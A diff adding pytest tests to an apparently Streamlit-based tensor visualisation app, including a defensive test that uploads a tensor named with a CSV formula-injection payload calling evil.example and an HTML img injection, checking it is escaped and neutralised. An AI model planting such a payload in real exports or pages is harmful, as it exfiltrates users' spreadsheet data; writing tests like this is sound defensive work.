@@ -330,6 +330,8 @@ def test_bad_uploads_get_a_clear_message_and_nothing_crashes(case):
     messages = [e.value for e in at.error]
     assert len(messages) == 1 and needle.lower() in messages[0].lower(), messages
     assert every_figure(at) == []
+    if case == "only a 1-D tensor":  # only the file's words are quoted, not the app's
+        assert messages[0].endswith("It holds: `bias` (8, F32)."), messages
 
 
 def test_an_upload_above_the_configured_limit_is_refused():
@@ -415,3 +417,26 @@ def test_a_file_is_parsed_once_however_often_the_page_reruns(monkeypatch):
     at.number_input(key="base").set_value(500.0).run()  # another figure, the same file
     assert_clean(at)
     assert calls == {"list": 1, "load": 1}
+
+
+def test_a_hostile_tensor_name_shows_as_written_and_its_csv_never_holds_a_formula():
+    import plotly.graph_objects as go
+
+    from core.viz import describe
+
+    name = '=HYPERLINK("http://evil.example/?q="&A1,"Click")<img src=x>$1$'
+    table = np.random.default_rng(2).standard_normal((32, 8)).astype(np.float32)
+    at = upload("hostile.safetensors", safetensors.numpy.save({name: table}))
+    assert_clean(at)
+    assert heatmap_titled(at, "=HYPERLINK")["title"] == f"{name}: value of each position's vector"  # the component writes it as text
+    assert heatmap_titled(at, "Cosine similarity")["panels"][0]["title"] == name
+    neighbour = by_title(at, "How alike")
+    assert neighbour["data"][0]["name"] == charts.literal(name)  # Plotly draws markup in names: escaped, it reads as written
+    rows = describe.figure_csv(go.Figure(neighbour)).splitlines()
+    assert rows[1].startswith('"\'=HYPERLINK(""http://evil.example/?q=""&A1,""Click"")<img src=x>$1$",')
+
+
+def test_a_table_of_zeros_says_what_is_true_of_its_norms():
+    at = upload("zeros.safetensors", safetensors.numpy.save({"pos": np.zeros((16, 8), np.float32)}))
+    assert_clean(at)
+    assert "all zeros, as the median row is" in [c.value for c in at.caption]  # not "nan× the median"
